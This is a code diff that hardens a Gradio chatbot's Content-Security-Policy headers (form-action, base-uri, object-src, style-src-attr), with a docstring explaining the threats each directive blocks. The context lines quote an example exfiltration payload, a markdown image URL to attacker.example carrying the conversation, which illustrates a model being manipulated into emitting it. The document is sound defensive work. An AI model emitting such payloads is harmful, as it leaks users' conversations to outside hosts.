@@ -13,6 +13,17 @@
   HTML from users and models, images included. A reply a model was talked into writing
   (`![](https://attacker.example/?q=<the conversation>)`), or a shared link holding one,
   would make every viewer's browser send that URL out. Only this origin's images load.
+- CSP `form-action 'self'`: no form on the page can post anywhere else (a phishing form
+  in a shared link, were one to get past the Chatbot's escaping, cannot send a password
+  out); `base-uri 'self'`, `object-src 'none'`: no `<base>` re-pointing relative URLs, no
+  plugins.
+- CSP `style-src-attr 'none'`: `style="..."` attributes in markup are ignored, so content
+  cannot make a full-window fixed overlay. Gradio 6 styles its components through the
+  CSSOM (element.style, which CSP does not restrict) and `<style>` elements it injects at
+  run time (theme and component CSS, hence `style-src 'self' 'unsafe-inline'`, which CSP
+  Level 3 applies to `<style>` elements only once `style-src-attr` is given). Measured in
+  Chromium: the only attributes refused are three in Gradio's own footer markup (the
+  footer sits slightly higher); chat, sliders and tabs look the same.
 
 A plain ASGI middleware (not Starlette's BaseHTTPMiddleware, which buffers response
 bodies): it only rewrites the start of each response, so streams stay streams. A header
@@ -38,7 +49,9 @@ SECURITY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
     (b"x-frame-options", b"SAMEORIGIN"),
     (
         b"content-security-policy",
-        b"frame-ancestors 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:",
+        b"frame-ancestors 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:; "
+        b"form-action 'self'; base-uri 'self'; object-src 'none'; "
+        b"style-src 'self' 'unsafe-inline'; style-src-attr 'none'",
     ),
 )
 
